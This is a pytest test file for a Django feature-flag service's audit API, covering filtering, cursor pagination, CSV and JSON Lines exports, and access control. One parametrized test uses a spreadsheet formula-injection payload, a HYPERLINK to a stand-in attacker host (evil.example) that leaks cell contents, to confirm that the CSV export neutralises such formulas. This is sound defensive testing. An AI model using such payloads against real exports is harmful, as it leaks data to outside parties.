"""The audit API: filters, cursor pages newest first, CSV and JSON Lines exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.db import transaction
from django.test import AsyncClient, Client

from audit import selectors
from audit.api import EXPORT_COLUMNS
from audit.models import AuditEvent
from audit.recorder import Actor, audit_record
from flags import services
from flags.models import Environment, Flag
from tests.api.conftest import error_of, send

pytestmark = pytest.mark.django_db

MARCH = dt.datetime(2026, 3, 1, 9, 0, tzinfo=dt.UTC)
INCIDENT = uuid.UUID("6f1c1a52-5d34-4a5e-9c1e-0a8e7f3b2c11")


def _record(monkeypatch: pytest.MonkeyPatch, when: dt.datetime, **fields: Any) -> AuditEvent:
    monkeypatch.setattr("audit.recorder.timezone.now", lambda: when)
    with transaction.atomic():
        event = audit_record(
            actor=fields.pop("actor", Actor.cli("alice")),
            action=fields.pop("action", "flag.update"),
            target_type="flag",
            target_key=fields.get("flag_key", "x"),
            **fields,
        )
    monkeypatch.undo()
    return event


@pytest.fixture
def trail(db: None, monkeypatch: pytest.MonkeyPatch) -> list[AuditEvent]:
    """Given five events over three days, by two actors, one of them a kill incident."""
    return [
        _record(monkeypatch, MARCH, flag_key="checkout", environment_key="staging"),
        _record(
            monkeypatch,
            MARCH + dt.timedelta(days=1),
            flag_key="checkout",
            environment_key="production",
            action="flag.kill",
            actor=Actor.cli("bob"),
            incident_id=INCIDENT,
            reason="errors spiking",
            after={"kill": {"by": "bob"}},
        ),
        _record(
            monkeypatch,
            MARCH + dt.timedelta(days=1, hours=2),
            flag_key="checkout",
            environment_key="production",
            action="flag.restore",
            actor=Actor.cli("bob"),
            incident_id=INCIDENT,
        ),
        _record(monkeypatch, MARCH + dt.timedelta(days=2), flag_key="search"),
        _record(
            monkeypatch,
            MARCH + dt.timedelta(days=2, hours=1),
            flag_key="search",
            reason='=1+1, "q"',
        ),
    ]


def _sequences(response: Any) -> list[int]:
    assert response.status_code == 200, response.content
    return [e["sequence"] for e in response.json()["results"]]


def test_list__newest_first_with_every_field(api: Client, trail: list[AuditEvent]) -> None:
    # The api fixture's token issue is an event too; look at ours.
    body = send(api, "GET", "/api/v1/audit/?flag=checkout").json()
    assert [e["action"] for e in body["results"]] == ["flag.restore", "flag.kill", "flag.update"]
    kill = body["results"][1]
    assert set(kill) == set(EXPORT_COLUMNS)
    assert kill["actor"] == "bob" and kill["actor_kind"] == "cli"
    assert kill["occurred_at"] == "2026-03-02T09:00:00Z"
    assert kill["after"] == {"kill": {"by": "bob"}} and kill["before"] is None
    assert kill["incident_id"] == str(INCIDENT) and kill["hash"] == trail[1].hash


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("flag=search", [4, 3]),
        ("environment=production&flag=checkout", [2, 1]),
        ("actor=bob", [2, 1]),
        ("action=flag.kill", [1]),
        ("action=flag.kill,flag.restore", [2, 1]),
        (f"incident={INCIDENT}", [2, 1]),
        ("since=2026-03-03&flag=search", [4, 3]),
        ("since=2026-03-02T09:00:00Z&until=2026-03-03", [2, 1]),
        ("since=2026-03-02T11:00:00%2B02:00&until=2026-03-03", [2, 1]),
        ("since=2026-03-02T11:00:00 02:00&until=2026-03-03", [2, 1]),  # unencoded '+'
        ("until=2026-03-01T09:00:01Z", [0]),
        ("actor_kind=cli&flag=checkout&environment=staging", [0]),
    ],
)
def test_list__filters(
    api: Client, trail: list[AuditEvent], query: str, expected: list[int]
) -> None:
    assert _sequences(send(api, "GET", f"/api/v1/audit/?{query}")) == [
        trail[i].sequence for i in expected
    ]


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("since=yesterday", "since"),
        ("until=2026-13-01", "until"),
        ("incident=INC-42", "incident"),
        ("actor_kind=robot", "actor_kind"),
        ("since=2026-03-02&until=2026-03-01", "until"),
        ("format=xml", "format"),
        ("format=csv&since=soon", "since"),
    ],
)
def test_list__bad_parameter__400_json_naming_it(
    api: Client, trail: list[AuditEvent], query: str, parameter: str
) -> None:
    response = send(api, "GET", f"/api/v1/audit/?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    error = error_of(response)
    assert error["code"] == "invalid_parameter" and list(error["fields"]) == [parameter]
    assert error["message"].startswith(f"{parameter}: ")


def test_list__cursor_pages_newest_first_without_gaps_or_repeats(
    api: Client, trail: list[AuditEvent]
) -> None:
    seen: list[int] = []
    url: str | None = "/api/v1/audit/?page_size=2"
    while url:
        body = send(api, "GET", url).json()
        assert len(body["results"]) <= 2
        seen += [e["sequence"] for e in body["results"]]
        url = body["next"]
    assert seen == sorted(AuditEvent.objects.values_list("sequence", flat=True), reverse=True)


def test_list__new_events_do_not_shift_the_next_page(
    api: Client, trail: list[AuditEvent], monkeypatch: pytest.MonkeyPatch
) -> None:
    first = send(api, "GET", "/api/v1/audit/?page_size=2").json()
    _record(monkeypatch, MARCH + dt.timedelta(days=5), flag_key="late")
    second = send(api, "GET", first["next"]).json()
    assert second["results"][0]["sequence"] == first["results"][-1]["sequence"] - 1


def _streamed(response: Any) -> str:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode()


def test_export_csv__every_matching_event_as_an_attachment(
    api: Client, trail: list[AuditEvent], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 2)  # several chunks
    response = send(api, "GET", "/api/v1/audit/?format=csv&actor=alice")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="flagsvc-audit-')
    rows = list(csv.DictReader(io.StringIO(_streamed(response))))
    assert [int(r["sequence"]) for r in rows] == [trail[i].sequence for i in (4, 3, 0)]
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert rows[0]["reason"] == '\'=1+1, "q"'  # quoted by the CSV writer, formula made inert
    assert rows[2]["before"] == "null" and rows[2]["incident_id"] == ""
    assert rows[0]["hash"] == trail[4].hash


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv__spreadsheet_formulas_are_neutralised_but_jsonl_keeps_the_text(
    api: Client, db: None, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    reason = f'{start}HYPERLINK("https://evil.example/?leak="&A1, "open")'
    _record(monkeypatch, MARCH, flag_key="checkout", reason=reason, actor=Actor.cli(f"{start}eve"))
    csv_text = _streamed(send(api, "GET", "/api/v1/audit/?format=csv&flag=checkout"))
    (csv_row,) = csv.DictReader(io.StringIO(csv_text))
    assert (csv_row["reason"], csv_row["actor"]) == (f"'{reason}", f"'{start}eve")
    jsonl_text = _streamed(send(api, "GET", "/api/v1/audit/?format=jsonl&flag=checkout"))
    (event,) = [json.loads(line) for line in jsonl_text.splitlines()]
    assert (event["reason"], event["actor"]) == (reason, f"{start}eve")


def test_export_jsonl__one_json_object_per_event(
    api: Client, trail: list[AuditEvent], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(selectors, "EXPORT_CHUNK", 2)
    response = send(api, "GET", "/api/v1/audit/?format=jsonl")
    assert response["Content-Type"] == "application/jsonl; charset=utf-8"
    lines = _streamed(response).splitlines()
    events = [json.loads(line) for line in lines]
    assert [e["sequence"] for e in events] == sorted(
        AuditEvent.objects.values_list("sequence", flat=True), reverse=True
    )
    kill = next(e for e in events if e["action"] == "flag.kill")
    assert kill["after"] == {"kill": {"by": "bob"}} and kill["incident_id"] == str(INCIDENT)


def test_export__accept_header_works_like_format(api: Client, trail: list[AuditEvent]) -> None:
    response = send(api, "GET", "/api/v1/audit/?flag=search", Accept="text/csv")
    assert len(list(csv.DictReader(io.StringIO(_streamed(response))))) == 2


def test_export_under_asgi__streams_asynchronously(
    admin_token: str, trail: list[AuditEvent]
) -> None:
    client = AsyncClient()

    async def fetch() -> tuple[Any, str]:
        response: Any = await client.get(
            "/api/v1/audit/?format=jsonl&flag=checkout",
            headers={"Authorization": f"Bearer {admin_token}"},
        )
        assert response.status_code == 200, response.content
        assert response.is_async
        return response, b"".join([part async for part in response.streaming_content]).decode()

    response, body = async_to_sync(fetch)()
    assert response.status_code == 200
    assert [json.loads(line)["action"] for line in body.splitlines()] == [
        "flag.restore",
        "flag.kill",
        "flag.update",
    ]


def test_api_writes__appear_in_the_trail_with_the_token_as_actor(
    api: Client, make_flag: Callable[..., Flag], production: Environment, actor: Actor
) -> None:
    make_flag("new-checkout")
    send(
        api,
        "PATCH",
        "/api/v1/flags/new-checkout/environments/production/",
        {"enabled": True, "reason": "go"},
        **{"X-Request-ID": "r-1"},
    )
    services.flag_kill(
        actor=actor, flag=Flag.objects.get(key="new-checkout"), environment=production, reason="x"
    )
    body = send(api, "GET", "/api/v1/audit/?actor=ci-bot&action=flag_state.update").json()
    (event,) = body["results"]
    assert (event["reason"], event["request_id"], event["actor_kind"]) == ("go", "r-1", "token")


def test_audit__needs_an_admin_token(trail: list[AuditEvent], issue: Callable[..., str]) -> None:
    from tests.api.conftest import bearer

    response = send(bearer(issue("kill", name="pager")), "GET", "/api/v1/audit/?format=csv")
    assert response.status_code == 403
    assert response["Content-Type"] == "application/json"


def test_audit_event_chunks__whole_trail_in_bounded_chunks(trail: list[AuditEvent]) -> None:
    chunks: Iterator[list[AuditEvent]] = selectors.audit_event_chunks(
        selectors.AuditFilters(), chunk_size=2
    )
    sizes = [len(chunk) for chunk in chunks]
    assert sizes == [2, 2, 1]
